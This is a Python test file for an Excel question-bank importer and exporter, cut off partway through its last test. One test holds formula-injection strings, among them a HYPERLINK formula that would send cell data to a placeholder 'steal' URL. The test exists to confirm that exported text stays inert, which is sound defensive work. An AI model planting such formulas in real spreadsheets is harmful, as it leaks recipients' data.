"""The Excel (.xlsx) question bank: template, importer, exporter. Pure Python, no database."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from school.quizzes.formats import excel
from school.quizzes.formats.excel import (
    HEADERS,
    dump,
    dump_with_warnings,
    multiple_fractions,
    parse,
    template,
)
from school.quizzes.formats.parsed import FormatError, ParsedAnswer, ParsedQuestion

Row = dict[str, object]


def xlsx(
    *rows: Row | None,
    header: tuple[str, ...] | list[str] = HEADERS,
    title: str = "题库",
    above: tuple[list[object], ...] = (),
    formulas: bool = False,
) -> bytes:
    """A workbook with one sheet; each row maps header -> value, None is an empty row.

    Text starting with "=" is text, as typed with Excel's leading ', unless formulas is set.
    """
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = title
    for line in above:
        sheet.append(line)
    sheet.append(list(header))
    for number, row in enumerate(rows, start=len(above) + 2):
        row = row or {}
        unknown = set(row) - set(header)
        assert not unknown, unknown
        for column, name in enumerate(header, start=1):
            value = row.get(name)
            if value is not None:
                cell = sheet.cell(number, column, value)
                if isinstance(value, str) and value.startswith("=") and not formulas:
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def one(row: Row) -> ParsedQuestion:
    questions = parse(xlsx(row))
    assert len(questions) == 1
    return questions[0]


def problems(data: bytes) -> list[str]:
    with pytest.raises(FormatError) as caught:
        parse(data)
    return [str(problem) for problem in caught.value.problems]


def fractions(question: ParsedQuestion) -> list[Decimal]:
    return [answer.fraction for answer in question.answers]


def without_line(questions: list[ParsedQuestion]) -> list[dict]:
    return [{**q.as_json(), "line": None} for q in questions]


SINGLE: Row = {
    "题型": "单选题",
    "题干": "党的最高领导机关是（　　）。",
    "选项A": "党的全国代表大会和它所产生的中央委员会",
    "选项B": "中央政治局",
    "选项C": "中央书记处",
    "选项D": "中央军事委员会",
    "答案": "A",
}

FIVE: Row = {
    "题型": "多选题",
    "题干": "党的纪律包括（　　）。",
    "选项A": "政治纪律",
    "选项B": "财经纪律",
    "选项C": "组织纪律",
    "选项D": "廉洁纪律",
    "选项E": "外事纪律",
    "答案": "ACD",
}


# --- template ------------------------------------------------------------------------------


def test_template_parses_to_its_example_questions():
    questions = parse(template())
    assert [q.qtype for q in questions] == [
        "single",
        "multiple",
        "truefalse",
        "fillin",
        "matching",
        "essay",
    ]
    assert [q.line for q in questions] == [2, 3, 4, 5, 6, 7]
    single, multiple, truefalse, fillin, matching, essay = questions
    assert single.text == "中国共产党的最高理想和最终目标是（　　）。"
    assert fractions(single) == [1, 0, 0, 0]
    assert single.tags == ["党章", "理想信念"]
    assert single.default_mark == 2
    assert fractions(multiple) == [
        Decimal("0.3333333"),
        Decimal("0.3333333"),
        Decimal("0.3333334"),
        Decimal(-1),
        Decimal(-1),
    ]
    assert [(a.text, a.fraction) for a in truefalse.answers] == [("true", 1), ("false", 0)]
    assert [a.text for a in fillin.answers] == ["1921", "1921年"]
    assert [a.text for a in matching.answers][-1] == ""  # the distractor
    assert essay.answers == []
    assert essay.default_mark == 10
    assert "参考要点" in essay.general_feedback
    assert all(q.text_format == "plain" for q in questions)


def test_template_has_a_friendly_layout():
    workbook = load_workbook(io.BytesIO(template()))
    assert workbook.sheetnames == ["题库", "说明"]
    sheet = workbook["题库"]
    assert [cell.value for cell in sheet[1]] == list(HEADERS)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
    assert sheet["B2"].alignment.wrap_text
    (validation,) = sheet.data_validations.dataValidation
    assert validation.type == "list"
    assert "A2" in validation.sqref
    assert validation.formula1 == '"单选题,多选题,判断题,填空题,数值题,匹配题,简答题,说明"'
    help_text = "\n".join(
        str(cell.value) for row in workbook["说明"].iter_rows() for cell in row if cell.value
    )
    for word in ("题型", "选项A～选项H", "分值", "考点", "1/k", "3±0.5", "-> 右项", "5000"):
        assert word in help_text
    for label in excel.TYPE_LABELS.values():
        assert label in help_text


# --- every type ----------------------------------------------------------------------------


@pytest.mark.parametrize("answer", ["B", "b", "Ｂ", " B ", "ｂ"])
def test_single_choice(answer):
    question = one({**SINGLE, "答案": answer})
    assert question.qtype == "single"
    assert [a.text for a in question.answers][:2] == [
        "党的全国代表大会和它所产生的中央委员会",
        "中央政治局",
    ]
    assert fractions(question) == [0, 1, 0, 0]


@pytest.mark.parametrize(
    "answer", ["ACD", "A,C,D", "A、C、D", "a c d", "ＡＣＤ", "A，C，D", "A;C;D", "CDA", "ACDA"]
)
def test_multiple_choice_answer_spellings(answer):
    question = one({**FIVE, "答案": answer})
    right = [a.fraction for a in question.answers if a.fraction > 0]
    wrong = [a.fraction for a in question.answers if a.fraction < 0]
    assert [a.fraction > 0 for a in question.answers] == [True, False, True, True, False]
    assert sum(right) == Decimal(1)  # exactly, not 0.9999999
    assert right == [Decimal("0.3333333"), Decimal("0.3333333"), Decimal("0.3333334")]
    assert wrong == [Decimal(-1), Decimal(-1)]  # 错选不得分


def test_multiple_choice_two_right_and_all_right():
    question = one({**FIVE, "答案": "BE"})
    half = Decimal("0.5")
    assert fractions(question) == [-1, half, -1, -1, half]
    everything = one({**FIVE, "答案": "ABCDE"})
    assert fractions(everything) == [Decimal("0.2")] * 5
    single_right = one({**FIVE, "答案": "C"})
    assert fractions(single_right) == [-1, -1, 1, -1, -1]


@pytest.mark.parametrize("options", range(2, 9))
def test_multiple_fractions_rule(options):
    for k in range(1, options + 1):
        correct = [i < k for i in range(options)]
        values = multiple_fractions(correct)
        right = [v for v, ok in zip(values, correct, strict=True) if ok]
        wrong = [v for v, ok in zip(values, correct, strict=True) if not ok]
        assert sum(right) == 1
        share = (Decimal(1) / k).quantize(Decimal("0.0000001"))
        assert all(abs(v - share) <= Decimal("0.000001") for v in right)
        assert all(v == -1 for v in wrong)
        # Any wrong tick loses the question, so ticking everything pays only when all are right.
        if k < options:
            assert sum(values) <= 0


@pytest.mark.parametrize(
    ("answer", "value"),
    [
        ("对", True),
        ("错", False),
        ("正确", True),
        ("错误", False),
        ("√", True),
        ("×", False),
        ("T", True),
        ("F", False),
        ("t", True),
        ("ｆ", False),
        ("TRUE", True),
        ("false", False),
        (True, True),
        (False, False),
        ("是", True),
        ("否", False),
        (" 对 ", True),
    ],
)
def test_true_false_spellings(answer, value):
    question = one({"题型": "判断题", "题干": "党员有退党的自由。", "答案": answer})
    assert [(a.text, a.fraction) for a in question.answers] == [
        ("true", 1 if value else 0),
        ("false", 0 if value else 1),
    ]


def test_true_false_written_as_two_options():
    question = one(
        {
            "题型": "判断",
            "题干": "党员有退党的自由。",
            "选项A": "正确",
            "选项B": "错误",
            "答案": "A",
        }
    )
    assert fractions(question) == [1, 0]


def test_fill_in():
    question = one(
        {
            "题型": "填空题",
            "题干": "党的根本宗旨是______。",
            "答案": "全心全意为人民服务｜全心全意为人民服务。|50%:为人民服务| 25％：服务 ",
        }
    )
    assert [(a.text, a.fraction) for a in question.answers] == [
        ("全心全意为人民服务", Decimal(1)),
        ("全心全意为人民服务。", Decimal(1)),
        ("为人民服务", Decimal("0.5")),
        ("服务", Decimal("0.25")),
    ]
    assert question.case_sensitive is False


def test_fill_in_number_and_date_cells_are_text():
    assert one({"题型": "填空", "题干": "一大召开于______年。", "答案": 1921}).answers[0].text == (
        "1921"
    )
    founding = one({"题型": "填空", "题干": "开国大典在哪天举行？", "答案": datetime(1949, 10, 1)})
    assert founding.answers[0].text == "1949-10-01"


@pytest.mark.parametrize(
    ("answer", "value", "tolerance"),
    [
        ("3", "3", "0"),
        (3, "3", "0"),
        (3.5, "3.5", "0"),
        (2.0, "2", "0"),
        ("3.50", "3.5", "0"),
        ("3±0.5", "3", "0.5"),
        ("3+-0.5", "3", "0.5"),
        ("3 +/- 0.5", "3", "0.5"),
        ("３±０.５", "3", "0.5"),
        ("1~5", "3", "2"),
        ("1..5", "3", "2"),
        ("1～5", "3", "2"),
        ("1 至 4", "2.5", "1.5"),
        ("-5~-1", "-3", "2"),
        ("-0.5", "-0.5", "0"),
        ("*", "*", "0"),
    ],
)
def test_numerical_spellings(answer, value, tolerance):
    question = one({"题型": "数值题", "题干": "按规定应交纳月工资收入的百分之几？", "答案": answer})
    (only,) = question.answers
    assert (only.text, only.tolerance, only.fraction) == (value, Decimal(tolerance), 1)


def test_numerical_alternatives_with_weights():
    question = one({"题型": "数值", "题干": "π 约等于多少？", "答案": "3.14±0.01|50%:3"})
    assert [(a.text, a.tolerance, a.fraction) for a in question.answers] == [
        ("3.14", Decimal("0.01"), Decimal(1)),
        ("3", Decimal(0), Decimal("0.5")),
    ]


@pytest.mark.parametrize("arrow", ["->", "→", "=>", " －＞ ", "-->"])
def test_matching(arrow):
    question = one(
        {
            "题型": "匹配题",
            "题干": "将会议与召开年份对应起来。",
            "选项A": f"中共一大{arrow}1921年",
            "选项B": f"遵义会议 {arrow} 1935年",
            "选项C": f"{arrow} 1945年",
        }
    )
    assert [(a.text, a.match, a.fraction) for a in question.answers] == [
        ("中共一大", "1921年", 1),
        ("遵义会议", "1935年", 1),
        ("", "1945年", 1),
    ]


def test_essay_and_description():
    essay, description = parse(
        xlsx(
            {"题型": "问答题", "题干": "谈谈你对“两个确立”的理解。", "解析": "要点……", "分值": 10},
            {"题型": "说明", "题干": "阅读下面的材料，回答第 3～5 题。"},
        )
    )
    assert (essay.qtype, essay.answers, essay.default_mark) == ("essay", [], 10)
    assert essay.general_feedback == "要点……"
    assert (description.qtype, description.answers) == ("description", [])
    assert description.default_mark == 0  # a description carries no mark


@pytest.mark.parametrize(
    ("spelling", "qtype"),
    [
        ("单选", "single"),
        (" 单选题 ", "single"),
        ("单项选择题", "single"),
        ("单 选 题", "single"),
        ("多选", "multiple"),
        ("多项选择题", "multiple"),
        ("不定项选择题", "multiple"),
        ("判断", "truefalse"),
        ("填空", "fillin"),
        ("数值", "numerical"),
        ("匹配", "matching"),
        ("简答", "essay"),
        ("问答", "essay"),
        ("说明", "description"),
    ],
)
def test_type_spellings(spelling, qtype):
    assert excel._qtype(spelling) == qtype


def test_explanation_mark_and_tags():
    question = one(
        {
            **SINGLE,
            "解析": "党章第十条。",
            "分值": 2.0,
            "考点": " 党章 ，组织原则、 民主集中制;党章；纪律,  ",
        }
    )
    assert question.general_feedback == "党章第十条。"
    assert question.default_mark == Decimal(2)
    assert str(question.default_mark) == "2"
    assert question.tags == ["党章", "组织原则", "民主集中制", "纪律"]
    assert one({**SINGLE, "分值": "1.5"}).default_mark == Decimal("1.5")
    assert one({**SINGLE, "分值": 100}).default_mark == 100
    assert one(SINGLE).default_mark == 1


# --- the file around the rows -------------------------------------------------------------


def test_headers_found_by_name_in_any_order_and_spelling():
    header = [
        "序号",
        "正确答案",
        " 题 目 ",
        "Ａ",
        "选项 b",
        "c",
        "题型*",
        "分值（默认1分）",
        "难度",
    ]
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "题库"
    sheet.append(["某某党支部题库"])  # a title row above the header
    sheet.append(header)
    sheet.append([1, "B", "党的根本组织原则是（　　）。", "集体领导", "民主集中制", "个人分工负责"])
    sheet["G3"] = "单选"
    sheet["H3"] = 3
    sheet["I3"] = "易"
    sheet.append([2, "E", "题干", "甲", "乙", "丙", "单选"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(FormatError) as caught:
        parse(buffer.getvalue())
    # The problem names the column the way this file spells it.
    assert [str(p) for p in caught.value.problems] == [
        "第 4 行「正确答案」列：答案 E 对应的选项为空"
    ]

    sheet.delete_rows(4)
    buffer = io.BytesIO()
    workbook.save(buffer)
    (question,) = parse(buffer.getvalue())
    assert question.line == 3
    assert question.text == "党的根本组织原则是（　　）。"
    assert fractions(question) == [0, 1, 0]
    assert question.default_mark == 3


def test_empty_rows_are_skipped_and_lines_are_rows():
    questions = parse(
        xlsx(
            None,
            SINGLE,
            {"题型": "  ", "题干": " ", "答案": ""},
            None,
            {**SINGLE, "答案": "C"},
        )
    )
    assert [q.line for q in questions] == [3, 6]


def test_reads_the_sheet_named_tiku_else_the_first():
    workbook = Workbook()
    notes = workbook.active
    assert notes is not None
    notes.title = "填写说明"
    notes.append(["这里不是题目"])
    bank = workbook.create_sheet("题库")
    bank.append(list(HEADERS))
    bank.append([SINGLE.get(name) for name in HEADERS])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert [q.text for q in parse(buffer.getvalue())] == [SINGLE["题干"]]

    assert [q.text for q in parse(xlsx(SINGLE, title="Sheet1"))] == [SINGLE["题干"]]


def _with_cached_values(data: bytes, values: dict[str, str]) -> bytes:
    """Give formula cells the cached results Excel would have saved (openpyxl saves none)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = content.decode()
                for cell, value in values.items():
                    text, count = re.subn(
                        rf'(<c r="{cell}"[^>]*>)<f>(.*?)</f><v\s*/>',
                        rf"\1<f>\2</f><v>{value}</v>",
                        text,
                    )
                    assert count == 1, cell
                content = text.encode()
            archive.writestr(info, content)
    return target.getvalue()


def test_formulas_are_read_as_their_values():
    data = xlsx({"题型": "数值题", "题干": "1+2=?", "答案": "=1+2", "分值": "=1*2"}, formulas=True)
    (question,) = parse(_with_cached_values(data, {"K2": "3", "M2": "2"}))
    assert (question.answers[0].text, question.default_mark) == ("3", 2)


# --- problems ------------------------------------------------------------------------------

UNKNOWN_TYPE = (
    "未知题型“选项题”，可选：单选题、多选题、判断题、填空题、数值题、匹配题、简答题、说明"
)


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        ({**SINGLE, "题型": "选项题"}, [f"第 2 行「题型」列：{UNKNOWN_TYPE}"]),
        (
            {**SINGLE, "题型": None},
            ["第 2 行「题型」列：题型为空，请从下拉列表中选择，例如 单选题"],
        ),
        ({**SINGLE, "题干": None}, ["第 2 行「题干」列：题干为空"]),
        (
            {**SINGLE, "答案": "AB"},
            [
                "第 2 行「答案」列：单选题的答案应为一个选项字母，例如 B"
                "（有多个正确答案的请把题型改为多选题）"
            ],
        ),
        ({**SINGLE, "答案": "甲"}, ["第 2 行「答案」列：单选题的答案应为一个选项字母，例如 B"]),
        ({**SINGLE, "答案": "E"}, ["第 2 行「答案」列：答案 E 对应的选项为空"]),
        (
            {**SINGLE, "答案": None},
            ["第 2 行「答案」列：答案为空；单选题的答案应为一个选项字母，例如 B"],
        ),
        (
            {"题型": "单选题", "题干": "？", "选项A": "唯一", "答案": "A"},
            ["第 2 行「选项B」列：单选题至少需要两个选项（选项A、选项B）"],
        ),
        (
            {**SINGLE, "选项B": None},
            [
                "第 2 行「选项B」列：选项 B 为空，但后面的选项 D 有内容；选项应从 A 开始连续填写",
            ],
        ),
        (
            {**SINGLE, "选项C": SINGLE["选项A"]},
            ["第 2 行「选项C」列：选项 C 与选项 A 内容相同"],
        ),
        (
            {**FIVE, "答案": "AX"},
            ["第 2 行「答案」列：多选题的答案应为选项字母，例如 ACD 或 A、C、D"],
        ),
        ({**FIVE, "答案": "ACFG"}, ["第 2 行「答案」列：答案 F、G 对应的选项为空"]),
        (
            {"题型": "判断题", "题干": "党员有退党的自由。", "答案": "可能"},
            ["第 2 行「答案」列：判断题的答案应为 对 或 错（也可写 正确/错误、√/×、T/F、是/否）"],
        ),
        (
            {"题型": "判断题", "题干": "党员有退党的自由。", "选项A": "有", "答案": "对"},
            ["第 2 行「选项A」列：判断题不需要选项，选项列应留空，答案请在「答案」列填写 对 或 错"],
        ),
        (
            {"题型": "填空题", "题干": "______", "选项A": "1921", "答案": "1921"},
            ["第 2 行「选项A」列：填空题不使用选项列，选项A～选项H 应留空，答案请写在「答案」列"],
        ),
        (
            {"题型": "填空题", "题干": "______"},
            [
                "第 2 行「答案」列：答案为空；填空题请填写可接受的答案，"
                "多个答案用 | 分隔，例如 1921|1921年"
            ],
        ),
        (
            {"题型": "填空题", "题干": "______", "答案": "1921|150%:1921年"},
            ["第 2 行「答案」列：“150%:1921年”的得分比例无效，应在 0%～100% 之间，例如 50%:答案"],
        ),
        (
            {"题型": "填空题", "题干": "______", "答案": "50%:1921"},
            ["第 2 行「答案」列：“50%:1921”中至少要有一个满分答案（不带百分比的答案）"],
        ),
        (
            {"题型": "填空题", "题干": "______", "答案": "1921|1921"},
            ["第 2 行「答案」列：答案“1921”重复"],
        ),
        (
            {"题型": "数值题", "题干": "？", "答案": "三"},
            ["第 2 行「答案」列：“三”不是数值题的答案，应为数字，例如 3、3±0.5 或 1~5"],
        ),
        (
            {"题型": "数值题", "题干": "？", "答案": "5~1"},
            ["第 2 行「答案」列：范围“5~1”的下限大于上限"],
        ),
        (
            {"题型": "匹配题", "题干": "？", "选项A": "一大 -> 1921", "选项B": "遵义会议 1935"},
            [
                "第 2 行「选项A」列：匹配题至少需要两对“左项 -> 右项”，每个选项格写一对",
                "第 2 行「选项B」列：选项 B 应写成“左项 -> 右项”，例如 遵义会议 -> 1935年",
            ],
        ),
        (
            {
                "题型": "匹配题",
                "题干": "？",
                "选项A": "一大 -> 1921",
                "选项B": "遵义会议 ->",
                "选项C": "一大 -> 1922",
                "选项D": "七大 -> 1945",
                "答案": "A",
            },
            [
                "第 2 行「选项B」列：选项 B 的右项为空",
                "第 2 行「选项C」列：选项 C 的左项“一大”与选项 A 重复",
                "第 2 行「答案」列：匹配题的配对写在选项列中（每格一对“左项 -> 右项”），"
                "「答案」列应留空",
            ],
        ),
        (
            {"题型": "简答题", "题干": "？", "答案": "参考答案"},
            ["第 2 行「答案」列：简答题由人工评分，「答案」列应留空；参考答案请写在「解析」列"],
        ),
        (
            {"题型": "简答题", "题干": "？", "选项A": "甲"},
            ["第 2 行「选项A」列：简答题不使用选项列，选项A～选项H 应留空"],
        ),
        (
            {"题型": "说明", "题干": "阅读材料", "分值": 1, "答案": "x"},
            [
                "第 2 行「答案」列：说明不是题目，「答案」列应留空",
                "第 2 行「分值」列：说明不是题目，不计分，「分值」列应留空",
            ],
        ),
        (
            {**SINGLE, "分值": 0},
            ["第 2 行「分值」列：分值“0”无效，应为大于 0、不超过 100 的数，例如 2"],
        ),
        (
            {**SINGLE, "分值": "-1"},
            ["第 2 行「分值」列：分值“-1”无效，应为大于 0、不超过 100 的数，例如 2"],
        ),
        (
            {**SINGLE, "分值": 101},
            ["第 2 行「分值」列：分值“101”无效，应为大于 0、不超过 100 的数，例如 2"],
        ),
        (
            {**SINGLE, "分值": "两分"},
            ["第 2 行「分值」列：分值“两分”无效，应为大于 0、不超过 100 的数，例如 2"],
        ),
        (
            {**SINGLE, "解析": "#N/A"},
            ["第 2 行「解析」列：单元格是公式的错误值 #N/A，请改成实际内容"],
        ),
    ],
)
def test_bad_row_is_reported_with_row_column_and_reason(row, expected):
    assert problems(xlsx(row)) == expected


def test_every_bad_row_is_listed_and_nothing_is_imported():
    data = xlsx(
        SINGLE,
        {**SINGLE, "答案": "E"},
        FIVE,
        {**SINGLE, "题型": "选项题"},
        None,
        {"题型": "判断题", "题干": "？", "答案": "大概"},
        {**FIVE, "分值": "很多", "答案": "AZ"},
    )
    assert problems(data) == [
        "第 3 行「答案」列：答案 E 对应的选项为空",
        f"第 5 行「题型」列：{UNKNOWN_TYPE}",
        "第 7 行「答案」列：判断题的答案应为 对 或 错（也可写 正确/错误、√/×、T/F、是/否）",
        "第 8 行「答案」列：多选题的答案应为选项字母，例如 ACD 或 A、C、D",
        "第 8 行「分值」列：分值“很多”无效，应为大于 0、不超过 100 的数，例如 2",
    ]


def test_more_than_eight_options_is_a_problem():
    data = xlsx({**SINGLE, "选项I": "多出来的"}, header=[*HEADERS, "选项I"])
    assert problems(data) == [
        "第 2 行「选项I」列：最多支持 8 个选项（选项A～选项H），这一格的内容无法导入"
    ]
    # An empty 选项I column is harmless.
    assert len(parse(xlsx(SINGLE, header=[*HEADERS, "选项I"]))) == 1


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


NOT_XLSX = "不是有效的 Excel（.xlsx）文件"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", NOT_XLSX),
        ("题型,题干,答案\n单选题,党的宗旨是什么,A\n".encode(), NOT_XLSX),
        ("题型,题干\n单选题,党的宗旨\n".encode("gbk"), NOT_XLSX),
        (bytes(range(256)) * 8, NOT_XLSX),
        ("<html><body><table><tr><td>题型</td></tr></table></body></html>".encode(), NOT_XLSX),
        (_zip({"hello.txt": "not a workbook"}), NOT_XLSX),
        (_zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<broken"}), NOT_XLSX),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "旧版 Excel（.xls）"),
    ],
)
def test_not_an_xlsx_file_is_one_clear_problem(data, expected):
    with pytest.raises(FormatError) as caught:
        parse(data)
    (problem,) = caught.value.problems
    assert problem.line is None
    assert expected in problem.message
    assert "另存为" in problem.message and ".xlsx" in problem.message


def test_damaged_sheet_is_not_a_crash():
    data = xlsx(SINGLE)
    source = zipfile.ZipFile(io.BytesIO(data))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]
            archive.writestr(info, content)
    with pytest.raises(FormatError) as caught:
        parse(target.getvalue())
    (problem,) = caught.value.problems
    assert NOT_XLSX in problem.message


def test_missing_headers_are_one_problem_naming_them():
    assert problems(xlsx(header=["题型", "题干", "选项A", "选项B"])) == [
        "第 1 行：缺少必需的列：答案。第一行应为列标题：题型、题干、选项A～选项H、答案、"
        "解析、分值、考点（可下载题库模板对照）"
    ]
    (problem,) = problems(xlsx(header=["序号", "题干", "选项A"]))
    assert problem.startswith("第 1 行：缺少必需的列：题型、答案。")


def test_duplicate_header_is_a_problem():
    assert problems(xlsx(header=[*HEADERS, "正确答案"])) == [
        "第 1 行「答案」列：「答案」列出现了两次（K 列和 O 列），请只保留一列"
    ]


def test_empty_sheet():
    workbook = Workbook()
    buffer = io.BytesIO()
    workbook.save(buffer)
    (problem,) = problems(buffer.getvalue())
    assert "是空的" in problem


def test_too_many_rows_is_refused():
    fill_in = {"题型": "填空题", "题干": "党的根本宗旨是______。", "答案": "全心全意为人民服务"}
    assert len(parse(xlsx(*[fill_in] * excel.MAX_ROWS))) == 5000
    (problem,) = problems(xlsx(*[fill_in] * (excel.MAX_ROWS + 1)))
    assert "最多导入 5000 道题" in problem
    assert "拆分" in problem


def test_zip_bomb_is_refused(monkeypatch):
    monkeypatch.setattr(excel, "MAX_UNCOMPRESSED", 1000)
    (problem,) = problems(template())
    assert "解压后超过" in problem


# --- export --------------------------------------------------------------------------------


def every_type() -> list[ParsedQuestion]:
    plain = {"text_format": "plain"}
    return [
        ParsedQuestion(
            "single",
            "“四个意识”不包括（　　）。",
            answers=[
                ParsedAnswer("政治意识", Decimal(0)),
                ParsedAnswer("大局意识", Decimal(0)),
                ParsedAnswer("创新意识", Decimal(1)),
                ParsedAnswer("看齐意识", Decimal(0)),
            ],
            general_feedback="“四个意识”是政治意识、大局意识、核心意识、看齐意识。",
            tags=["四个意识", "政治建设"],
            default_mark=Decimal("1.5"),
            **plain,
        ),
        ParsedQuestion(
            "multiple",
            "党员的权利包括（　　）。\n（多选）",
            answers=[
                ParsedAnswer(text, fraction)
                for text, fraction in zip(
                    ["参加党的有关会议", "享有选举权", "随意发表反对中央决定的言论", "提出申诉"],
                    multiple_fractions([True, True, False, True]),
                    strict=True,
                )
            ],
            tags=["党员权利"],
            default_mark=Decimal(3),
            **plain,
        ),
        ParsedQuestion(
            "truefalse",
            "党员可以不参加党的组织生活。",
            answers=[ParsedAnswer("true", Decimal(0)), ParsedAnswer("false", Decimal(1))],
            **plain,
        ),
        ParsedQuestion(
            "fillin",
            "党的思想路线是一切从实际出发，理论联系实际，______，在实践中检验真理和发展真理。",
            answers=[
                ParsedAnswer("实事求是", Decimal(1)),
                ParsedAnswer("求是", Decimal("0.3333333")),
                ParsedAnswer("50%:看起来像比例", Decimal(1)),
                ParsedAnswer("*", Decimal("0.1")),
            ],
            default_mark=Decimal(2),
            **plain,
        ),
        ParsedQuestion(
            "numerical",
            "月工资收入（税后）3000 元以下的党员，每月交纳党费的比例是百分之几？",
            answers=[
                ParsedAnswer("0.5", Decimal(1), tolerance=Decimal(0)),
                ParsedAnswer("-1", Decimal("0.5"), tolerance=Decimal("0.25")),
            ],
            **plain,
        ),
        ParsedQuestion(
            "matching",
            "把会议和年份对应起来。",
            answers=[
                ParsedAnswer("中共一大", Decimal(1), match="1921年"),
                ParsedAnswer("遵义会议", Decimal(1), match="1935年"),
                ParsedAnswer("", Decimal(1), match="1945年"),
            ],
            default_mark=Decimal(4),
            **plain,
        ),
        ParsedQuestion(
            "essay",
            "谈谈你作为流动党员如何按时参加组织生活。",
            general_feedback="参考要点：线上组织生活、按时交纳党费、定期汇报。",
            default_mark=Decimal(10),
            tags=["流动党员"],
            **plain,
        ),
        ParsedQuestion(
            "description",
            "阅读下面的材料：\n“不忘初心，牢记使命。”",
            default_mark=Decimal(0),
            **plain,
        ),
    ]


def test_round_trip_keeps_every_type():
    questions = every_type()
    data, found = dump_with_warnings(questions)
    assert found == []
    back = parse(data)
    assert without_line(back) == without_line(questions)
    assert [q.line for q in back] == list(range(2, 2 + len(questions)))
    assert dump(questions)[:2] == b"PK"


def test_round_trip_of_the_template():
    questions = parse(template())
    data, found = dump_with_warnings(questions)
    assert found == []
    assert without_line(parse(data)) == without_line(questions)


def test_export_has_the_template_layout():
    workbook = load_workbook(io.BytesIO(dump(every_type())))
    assert workbook.sheetnames == ["题库", "说明"]
    sheet = workbook["题库"]
    assert [cell.value for cell in sheet[1]] == list(HEADERS)
    assert [cell.value for cell in sheet[3]][:7] == [
        "多选题",
        "党员的权利包括（　　）。\n（多选）",
        "参加党的有关会议",
        "享有选举权",
        "随意发表反对中央决定的言论",
        "提出申诉",
        None,
    ]
    assert sheet["K3"].value == "ABD"
    assert sheet["K4"].value == "错误"
    assert sheet["K5"].value == "实事求是|33.33333%:求是|100%:50%:看起来像比例|10%:*"
    assert sheet["K6"].value == "0.5|50%:-1±0.25"
    assert sheet["C7"].value == "中共一大 -> 1921年"
    assert sheet["M2"].value == 1.5
    assert sheet["N2"].value == "四个意识、政治建设"
    assert sheet["M9"].value is None  # a description has no mark


INJECTIONS = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"点此查看答案")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "=1+1",
]


def test_formula_like_text_stays_text():
    question = ParsedQuestion(
        "single",
        INJECTIONS[0],
        text_format="plain",
        answers=[
            ParsedAnswer(INJECTIONS[1], Decimal(1)),
            ParsedAnswer(INJECTIONS[2], Decimal(0)),
            ParsedAnswer(INJECTIONS[3], Decimal(0)),
        ],
        general_feedback=INJECTIONS[4],
    )
    distractor = ParsedQuestion(
        "matching",
        "=A1",
        text_format="plain",
        answers=[
            ParsedAnswer("a", Decimal(1), match="=b"),
            ParsedAnswer("c", Decimal(1), match="d"),
            ParsedAnswer("", Decimal(1), match="e"),  # written "-> e"
        ],
    )
    data, found = dump_with_warnings([question, distractor])
    assert found == []
    assert without_line(parse(data)) == without_line([question, distractor])

    sheet = load_workbook(io.BytesIO(data))["题库"]  # not data_only: formulas would show
    for cell in ("B2", "C2", "D2", "E2", "L2", "B3", "E3"):
        assert sheet[cell].data_type == "s", cell
        assert sheet[cell].quotePrefix, cell
    assert sheet["B2"].value == INJECTIONS[0]
    assert sheet["E3"].value == "-> e"
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_error_code_text_is_written_as_text_and_flagged():
    question = ParsedQuestion("essay", "#N/A", text_format="plain")
    data, found = dump_with_warnings([question])
    sheet = load_workbook(io.BytesIO(data))["题库"]
    assert sheet["B2"].data_type == "s"
    assert found == [
        "第 1 题「#N/A」：重新导入时会出错：题干：单元格是公式的错误值 #N/A，请改成实际内容"
    ]


def test_what_cannot_be_kept_is_listed():
    questions = [
        ParsedQuestion(
            "multiple",
            "不按规则计分的多选题",
            name="多选一",
            text_format="plain",
            answers=[
                ParsedAnswer("甲", Decimal("0.5")),
                ParsedAnswer("乙", Decimal("0.5")),
                ParsedAnswer("丙", Decimal(0)),
            ],
        ),
        ParsedQuestion(
            "single",
            "九个选项的单选题",
            text_format="plain",
            answers=[
                ParsedAnswer(f"选项{i}", Decimal(1 if i == 1 else 0), feedback="反馈" if i else "")
                for i in range(9)
            ],
            category="党史",
        ),
        ParsedQuestion(
            "fillin",
            "Case matters",
            text_format="plain",
            case_sensitive=True,
            answers=[
                ParsedAnswer("CPC", Decimal(1)),
                ParsedAnswer("cpc", Decimal("-0.5")),
                ParsedAnswer("C|P", Decimal("0.5")),
            ],
            category="党章",
            idnumber="Q-3",
        ),
        ParsedQuestion(
            "essay", "<p>HTML 题目</p>", text_format="html", answers=[ParsedAnswer("参考")]
        ),
        ParsedQuestion("truefalse", "**加粗**的判断题", text_format="markdown", answers=[]),
        ParsedQuestion("calculated", "不支持的题型", text_format="plain"),
        ParsedQuestion(
            "matching",
            "左项带箭头",
            text_format="plain",
            answers=[
                ParsedAnswer("a->b", Decimal(1), match="c"),
                ParsedAnswer("d", Decimal(1), match="e"),
            ],
            tags=["甲,乙"],
            default_mark=Decimal(200),
        ),
    ]
